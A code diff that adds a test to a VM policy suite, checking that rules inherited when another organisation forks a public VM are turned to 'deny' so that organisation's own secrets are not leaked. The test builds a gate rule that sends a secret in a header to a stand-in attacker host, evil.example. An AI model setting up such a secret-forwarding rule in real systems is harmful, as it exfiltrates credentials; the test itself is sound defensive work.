@@ -219,6 +219,28 @@ async def test_a_public_vm_gives_its_secrets_to_nobody(world):
         world.core.policies.get(other, vm.vm_id)
 
 
+async def test_rules_of_another_organisations_vm_get_no_secret_of_ones_own(world):
+    """A public VM would have whoever forks it send what he keeps for his own VMs."""
+    world.machine.sees_requests = True
+    await world.restart()
+    gate = {"host": "https://evil.example", "allow_on_status": [200], "headers": {"x": "${secret:A}"}}
+    door = {**DOOR, "auth": "open", "action": {"gate": gate}}
+    vm = await world.fork(public=True, policies={"rules": {"web": with_key("${secret:A}"), "door": door, "deny": DENY}})
+    org = "01KZ00000000000000000000ZZ"
+    await world.core.vms._database.write(lambda connection: key_rows.insert_org(connection, org, "others", 1))
+    other = replace(world.caller, org_id=org)
+    await world.core.policies.set_secret(other, "A", "theirs")
+    child = await world.core.vms.fork(other, ForkRequest(source_id=vm.vm_id))
+    own = {**DOOR, "priority": 7, "action": {"gate": gate}}
+    grandchild = await world.core.vms.fork(other, ForkRequest(source_id=child.vm_id, policies={"rules": {"own": own}}))
+    rules = world.core.policies.get(other, grandchild.vm_id).rules
+    assert {name: rule["action"] for name, rule in rules.items() if name != "own"} == dict.fromkeys(
+        ("web", "door", "deny"), "deny"
+    )
+    assert "auth" not in rules["door"] and rules["own"]["action"]["gate"]["headers"] == gate["headers"]
+    assert world.core.policies.get(world.caller, vm.vm_id).rules["door"]["action"]["gate"]
+
+
 async def test_a_row_that_was_moved_cannot_be_read(world):
     vm = await world.fork(policies={"secrets": {"A": "a"}})
     database = world.core.vms._database
